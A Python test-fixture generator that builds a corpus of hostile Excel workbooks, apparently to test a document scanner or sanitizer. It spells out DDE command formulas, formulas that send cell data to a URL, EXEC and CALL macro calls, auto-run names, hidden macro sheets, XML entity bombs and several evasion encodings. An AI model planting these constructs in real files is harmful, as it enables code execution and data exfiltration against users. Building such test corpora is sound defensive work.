"""Workbooks: macros, formulas that reach out, links, objects, disguises."""
import io
import zipfile

from case import MAILS, PAYLOAD as P, OUTPUT, REFUSED, add

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MICROSOFT = "http://schemas.microsoft.com/office/"
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="%s"' % OFFICE[:-1]
CT = "application/vnd.openxmlformats-officedocument.spreadsheetml."
MACRO_CT = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def rels(*rows):
    """(id, type, target) or (id, type, target, external)"""
    out = ""
    for row in rows:
        out += '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (*row[:3], ' TargetMode="External"' if len(row) > 3 else "")
    return '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>' % out


def book(cells="", sheet="", names="", book_rels=(), sheet_rels=(), parts=None, book_more="", sheets="", main=CT + "sheet.main+xml",
         sheet_head="", prefix=""):
    parts = dict(parts or {})
    row = '<row r="1"><c r="A1" t="inlineStr"><is><t>題名</t></is></c>%s</row>' % cells
    files = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="%s"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="%sworksheet+xml"/></Types>' % (main, CT),
        "_rels/.rels": rels(("rId1", OFFICE + "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": prefix + '<workbook %s><sheets><sheet name="表" sheetId="1" r:id="rId1"/>%s</sheets>%s%s</workbook>' % (
            S, sheets, "<definedNames>%s</definedNames>" % names if names else "", book_more),
        "xl/_rels/workbook.xml.rels": rels(("rId1", OFFICE + "worksheet", "worksheets/sheet1.xml"), *book_rels),
        "xl/worksheets/sheet1.xml": '<worksheet %s>%s<sheetData>%s</sheetData>%s</worksheet>' % (S, sheet_head, row, sheet),
    }
    if sheet_rels:
        files["xl/worksheets/_rels/sheet1.xml.rels"] = rels(*sheet_rels)
    files.update(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in files.items():
            z.writestr(zipfile.ZipInfo(name, (2024, 4, 1, 0, 0, 0)), content)
    return out.getvalue()


def cell(formula, attrs=""):
    for a, b in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;")):
        formula = formula.replace(a, b)
    return '<c r="B1" t="str"><f%s>%s</f><v>見えた値</v></c>' % (attrs, formula)


FORMULAS = {
    "dde": "cmd|'/c %s'!A0", "dde-quoted": "'cmd'|'/c %s'!A0", "dde-in-if": "IF(1,cmd|'/c %s'!A0,2)",
    "dde-name-quoted": "'cmd|/c %s'!A0", "dde-sum": "SUM(MSEXCEL|'\\..\\%s'!A1)", "dde-function": 'DDE("soffice","%s","A1")',
    "webservice": '_xlfn.WEBSERVICE("http://%s/?"&A1)', "webservice-lower": '_xlfn.webservice("http://%s/"&A1)',
    "filterxml": '_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://%s/"),"//a")', "rtd": 'RTD("%s.server",,"topic")',
    "image": '_xlfn.IMAGE("http://%s/?"&A1)', "call": 'CALL("%s","WinExec","JCJ","calc",0)', "register": 'REGISTER("%s","a","J")',
    "exec": 'EXEC("%s")', "exec-space": 'EXEC ("%s")', "udf": '%s("x")', "xll": "_xll.%s(1)",
    "hyperlink-exfil": 'HYPERLINK("http://%s/?"&A1,"押す")', "hyperlink-computed": 'HYPERLINK(CONCATENATE("htt","p://%s/",A1))',
    "hyperlink-file": 'HYPERLINK("file:///%s")', "hyperlink-unc": 'HYPERLINK("\\\\%s\\x")', "hyperlink-script": 'HYPERLINK("javascript:%s")',
    "hyperlink-hash-unc": 'HYPERLINK("#\\\\%s\\x")', "external-path": "'C:\\x\\[%s.xlsx]s'!A1", "external-url": "'http://x/[%s.xlsx]s'!A1",
    "external-unquoted": "[%s.xlsx]s!A1", "external-number": "[1]%s!A1", "external-in-brackets": "['http://x/%s.xlsx']s!A1",
    "unknown-sheet": "%s!A1", "indirect-external": 'INDIRECT("[%s.xlsx]s!A1")', "indirect-split": 'INDIRECT("\'\\\\%s"&"\\a\'!A1")',
    "indirect-calc": "INDIRECT(\"'http://%s/a'#$s.A1\")", "cube": 'CUBEVALUE("%s",A1)', "python": '_xlfn._xlws.PY(0,"%s")', "sql": 'SQL.REQUEST("%s")',
    "eta": "_xlfn.BYROW(A1:A1,_xleta.%s)", "sheet-function": "表!%s(1)", "bidi": "SUM(A1)&\u202e%s",
}


def formulas():
    for key, address in MAILS.items():
        add("xlsx-formula-hyperlink-%s.xlsx" % key, "xlsx", "a link by formula: " + key, book(cell('HYPERLINK("%s")' % address)))
    for name, f in FORMULAS.items():
        add("xlsx-formula-%s.xlsx" % name, "xlsx", "a formula that reaches out: " + name, book(cell(f % P)))
    add("xlsx-formula-shared.xlsx", "xlsx", "a shared formula that calls a program",
        book(cell('EXEC("%s")' % P, ' t="shared" ref="B1:B2" si="0"') + '<c r="C1"><f t="shared" si="0"/></c>'))
    add("xlsx-formula-array.xlsx", "xlsx", "an array formula with DDE", book(cell("cmd|'/c %s'!A0" % P, ' t="array" ref="B1"')))
    add("xlsx-formula-cdata.xlsx", "xlsx", "DDE in CDATA and character references",
        book('<c r="B1"><f><![CDATA[cm]]>d&#124;\'/c %s\'!A0</f><v>1</v></c>' % P))
    add("xlsx-formula-validation.xlsx", "xlsx", "a validation over another workbook",
        book(sheet='<dataValidations><dataValidation type="list" sqref="A1"><formula1>[1]%s!A1</formula1></dataValidation></dataValidations>' % P))
    add("xlsx-formula-format.xlsx", "xlsx", "a conditional format that calls a macro function",
        book(sheet='<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>EXEC("%s")</formula></cfRule></conditionalFormatting>' % P))
    add("xlsx-formula-x14.xlsx", "xlsx", "an extended validation over another workbook",
        book(sheet='<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" xmlns:x14="%sspreadsheetml/2009/9/main"><x14:dataValidations '
             'xmlns:xm="%sexcel/2006/main"><x14:dataValidation type="list"><x14:formula1><xm:f>[1]%s!A1</xm:f></x14:formula1><xm:sqref>A1</xm:sqref>'
             '</x14:dataValidation></x14:dataValidations></ext></extLst>' % (MICROSOFT, MICROSOFT, P)))


def names():
    for n in ("Auto_Open", "_xlnm.Auto_Open", "AUTO_OPEN_2", "auto_close", "Auto_Activate"):
        add("xlsx-name-%s.xlsx" % n.strip("_").replace(".", "-").lower(), "xlsx", "a name that runs by itself: " + n,
            book(names='<definedName name="%s" hidden="1">表!$A$1&amp;"%s"</definedName>' % (n, P)))
    for what in ("xlm", "function", "vbProcedure"):
        add("xlsx-name-%s.xlsx" % what.lower(), "xlsx", "a name of a macro: " + what,
            book(names='<definedName name="%s" %s="1">表!$A$1</definedName>' % (P, what)))
    add("xlsx-name-get-cell.xlsx", "xlsx", "a name that computes by a macro function", book(names='<definedName name="n">GET.WORKBOOK(1)&amp;"%s"</definedName>' % P))
    add("xlsx-name-external.xlsx", "xlsx", "a name in another workbook, used by a cell",
        book(cell("n+1"), names="<definedName name=\"n\">'[1]%s'!$A$1</definedName>" % P))


def parts():
    macro = dict(book_rels=(("rId9", MICROSOFT + "2006/relationships/vbaProject", "vbaProject.bin"),), parts={"xl/vbaProject.bin": P}, main=MACRO_CT)
    add("xlsx-vba.xlsm", "xlsx", "a VBA project", book(**macro))
    add("xlsx-vba-as-xlsx.xlsx", "xlsx", "a VBA project in a file that is called xlsx", book(**macro))
    for kind, relation in (("macro", MICROSOFT + "2006/relationships/xlMacrosheet"), ("intl-macro", MICROSOFT + "2006/relationships/xlIntlMacrosheet"),
                           ("dialog", OFFICE + "dialogsheet")):
        add("xlsx-sheet-%s.xlsm" % kind, "xlsx", "a very hidden sheet: " + kind,
            book(sheets='<sheet name="%s" sheetId="2" state="veryHidden" r:id="rId2"/>' % P, book_rels=(("rId2", relation, "macrosheets/sheet1.xml"),),
                 parts={"xl/macrosheets/sheet1.xml": '<xm:macrosheet xmlns:xm="%sexcel/2006/main" %s><sheetData><row r="1"><c r="A1"><f>EXEC("%s")</f></c></row></sheetData></xm:macrosheet>'
                        % (MICROSOFT, S, P)}))
    add("xlsx-sheet-macro-as-worksheet.xlsx", "xlsx", "a macro sheet related as a worksheet",
        book(sheets='<sheet name="表2" sheetId="2" r:id="rId2"/>', book_rels=(("rId2", OFFICE + "worksheet", "m.xml"),),
             parts={"xl/m.xml": '<xm:macrosheet xmlns:xm="%sexcel/2006/main" %s><sheetData><row r="1"><c r="A1"><f>EXEC("%s")</f></c></row></sheetData></xm:macrosheet>'
                    % (MICROSOFT, S, P)}))
    add("xlsx-external-link.xlsx", "xlsx", "an external link",
        book(book_more='<externalReferences><externalReference r:id="rId2"/></externalReferences>', book_rels=(("rId2", OFFICE + "externalLink", "externalLinks/e.xml"),),
             parts={"xl/externalLinks/e.xml": "<externalLink %s><ddeLink ddeService=\"cmd\" ddeTopic=\"/c %s\"/></externalLink>" % (S, P),
                    "xl/externalLinks/_rels/e.xml.rels": rels(("rId1", OFFICE + "externalLinkPath", "http://%s/a.xlsx" % P, 1))}))
    add("xlsx-connection.xlsx", "xlsx", "a connection to a database",
        book(book_rels=(("rId2", OFFICE + "connections", "connections.xml"),),
             parts={"xl/connections.xml": '<connections %s><connection id="1" refreshOnLoad="1"><dbPr connection="%s"/></connection></connections>' % (S, P)}))
    add("xlsx-query-table.xlsx", "xlsx", "a table of a web query",
        book(sheet='<tableParts><tablePart r:id="rId1"/></tableParts>', sheet_rels=(("rId1", OFFICE + "table", "../tables/t.xml"),),
             parts={"xl/tables/t.xml": '<table %s id="1" displayName="t" ref="A1:A2" tableType="queryTable" connectionId="1"><tableColumns><tableColumn id="1" name="題名" queryTableFieldId="1"/></tableColumns></table>' % S,
                    "xl/tables/_rels/t.xml.rels": rels(("rId1", OFFICE + "queryTable", "../q.xml")), "xl/q.xml": '<queryTable %s name="%s"/>' % (S, P)}))
    add("xlsx-custom-ui.xlsx", "xlsx", "a ribbon that runs a macro when the file is opened",
        book(parts={"_rels/.rels": rels(("rId1", OFFICE + "officeDocument", "xl/workbook.xml"), ("rId2", MICROSOFT + "2007/relationships/ui/extensibility", "customUI/c.xml")),
                    "customUI/c.xml": '<customUI xmlns="%s2006/01/customui" onLoad="%s"/>' % (MICROSOFT, P)}))
    add("xlsx-web-extension.xlsx", "xlsx", "a task pane of a web add-in",
        book(parts={"_rels/.rels": rels(("rId1", OFFICE + "officeDocument", "xl/workbook.xml"), ("rId2", MICROSOFT + "2011/relationships/webextensiontaskpanes", "t.xml")),
                    "t.xml": "<x>%s</x>" % P}))
    add("xlsx-ole.xlsx", "xlsx", "an embedded object",
        book(sheet='<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId1"/></oleObjects>', sheet_rels=(("rId1", OFFICE + "oleObject", "../embeddings/o.bin"),),
             parts={"xl/embeddings/o.bin": P}))
    add("xlsx-ole-link.xlsx", "xlsx", "a linked object that updates by itself",
        book(sheet='<oleObjects><oleObject progId="%s" link="[1]!x" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025"/></oleObjects>' % P))
    add("xlsx-activex.xlsm", "xlsx", "an ActiveX control",
        book(sheet='<controls><control shapeId="1025" r:id="rId1" name="%s"/></controls>' % P, sheet_rels=(("rId1", OFFICE + "control", "../activeX/a.xml"),),
             parts={"xl/activeX/a.xml": "<x>%s</x>" % P}))
    add("xlsx-printer.xlsx", "xlsx", "settings of a printer",
        book(sheet='<pageSetup r:id="rId1"/>', sheet_rels=(("rId1", OFFICE + "printerSettings", "../p.bin"),), parts={"xl/p.bin": P}), expect=OUTPUT)


def links():
    for name, target in (("file", "file:///c:/%s.exe"), ("unc", "\\\\%s\\x.exe"), ("script", "javascript:%s"), ("relative", "../%s.exe"), ("ms", "ms-excel:ofe|u|http://%s/")):
        add("xlsx-link-%s.xlsx" % name, "xlsx", "a hyperlink to where it may not lead: " + name,
            book(sheet='<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>', sheet_rels=(("rId1", OFFICE + "hyperlink", target % P, 1),)))
    draw = ('<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'xmlns:r="%s"><xdr:twoCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>'
            '<xdr:to><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>%%s<xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>' % OFFICE[:-1])
    shape = '<xdr:sp macro="%s" textlink="%s"><xdr:nvSpPr><xdr:cNvPr id="2" name="x"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst="rect"/></xdr:spPr></xdr:sp>'
    picture = ('<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="x"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:%s="rId1"/></xdr:blipFill><xdr:spPr/></xdr:pic>')
    on = dict(sheet='<drawing r:id="rId1"/>', sheet_rels=(("rId1", OFFICE + "drawing", "../drawings/d.xml"),))
    add("xlsx-shape-macro.xlsx", "xlsx", "a shape that runs a macro", book(parts={"xl/drawings/d.xml": draw % (shape % ("[0]!" + P, ""))}, **on))
    add("xlsx-shape-text.xlsx", "xlsx", "a shape whose text is in another workbook", book(parts={"xl/drawings/d.xml": draw % (shape % ("", "[1]%s!A1" % P))}, **on))
    for how in ("link", "embed"):
        add("xlsx-picture-%s.xlsx" % how, "xlsx", "a picture elsewhere: " + how,
            book(parts={"xl/drawings/d.xml": draw % (picture % how), "xl/drawings/_rels/d.xml.rels": rels(("rId1", OFFICE + "image", "http://%s/x.png" % P, 1))}, **on))
    add("xlsx-note-vml.xlsx", "xlsx", "a note whose drawing acts",
        book(sheet='<legacyDrawing r:id="rId2"/>', sheet_rels=(("rId1", OFFICE + "comments", "../c.xml"), ("rId2", OFFICE + "vmlDrawing", "../v.vml")),
             parts={"xl/c.xml": '<comments %s><authors><author>a</author></authors><commentList><comment ref="A1" authorId="0"><text><t>注</t></text></comment></commentList></comments>' % S,
                    "xl/v.vml": '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape onclick="%s" href="http://%s/"><v:imagedata src="http://%s/"/>'
                    '<x:ClientData ObjectType="Note"><x:FmlaMacro>%s</x:FmlaMacro><x:Row>0</x:Row><x:Column>0</x:Column></x:ClientData></v:shape></xml>' % (P, P, P, P)}), expect=OUTPUT)


def disguises():
    add("xlsx-entities.xlsx", "xlsx", "a bomb of entities", book(prefix='<!DOCTYPE x [<!ENTITY a "%s"><!ENTITY b "&a;&a;&a;&a;">]>' % P), expect=REFUSED)
    add("xlsx-external-entity.xlsx", "xlsx", "an entity in a file", book(prefix='<!DOCTYPE x SYSTEM "http://%s/x.dtd">' % P), expect=REFUSED)
    add("xlsx-choice.xlsx", "xlsx", "DDE in the alternative that others would read",
        book('<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x" xmlns:x="urn:x"><c r="B1"><v>1</v></c></mc:Choice>'
             '<mc:Fallback><c r="B1"><f>cmd|\'/c %s\'!A0</f></c></mc:Fallback></mc:AlternateContent>' % P))
    add("xlsx-utf16.xlsx", "xlsx", "DDE in a part in UTF-16",
        book(parts={"xl/worksheets/sheet1.xml": ('<?xml version="1.0" encoding="UTF-16"?><worksheet %s><sheetData><row r="1"><c r="A1"><f>cmd|\'/c %s\'!A0</f><v>1</v></c></row></sheetData></worksheet>'
                                                 % (S, P)).encode("utf-16")}), expect=(*OUTPUT, REFUSED))
    add("xlsx-prefix.xlsx", "xlsx", "macro functions under another prefix of the namespace",
        book(parts={"xl/worksheets/sheet1.xml": '<q:worksheet xmlns:q="http://purl.oclc.org/ooxml/spreadsheetml/main"><q:sheetData><q:row r="1"><q:c r="A1"><q:f>EXEC("%s")</q:f></q:c></q:row></q:sheetData></q:worksheet>' % P}))
    add("xlsx-loose-part.xlsx", "xlsx", "a part that nothing refers to", book(parts={"xl/evil.bin": P}))
    add("xlsx-pivot-external.xlsx", "xlsx", "a pivot table over a database",
        book(book_more='<pivotCaches><pivotCache cacheId="1" r:id="rId2"/></pivotCaches>', book_rels=(("rId2", OFFICE + "pivotCacheDefinition", "p.xml"),),
             sheet_rels=(("rId1", OFFICE + "pivotTable", "../t.xml"),),
             parts={"xl/p.xml": '<pivotCacheDefinition %s refreshOnLoad="1"><cacheSource type="external" connectionId="1"/><cacheFields><cacheField name="%s"/></cacheFields></pivotCacheDefinition>' % (S, P),
                    "xl/t.xml": '<pivotTableDefinition %s name="%s" cacheId="1" dataCaption="x"><location ref="A1"/></pivotTableDefinition>' % (S, P),
                    "xl/_rels/t.xml.rels": rels(("rId1", OFFICE + "pivotCacheDefinition", "p.xml"))}))
    add("xlsx-slicer-macro.xlsx", "xlsx", "function groups and a web extension of the sheet",
        book(book_more='<functionGroups><functionGroup name="%s"/></functionGroups>' % P,
             sheet='<extLst><ext uri="{7E03D99C-DC04-49d9-9315-930204A7B6E9}" xmlns:x15="%sspreadsheetml/2010/11/main"><x15:timelineRefs><x15:timelineRef r:id="%s"/></x15:timelineRefs></ext></extLst>' % (MICROSOFT, P)))


def make():
    formulas()
    names()
    parts()
    links()
    disguises()
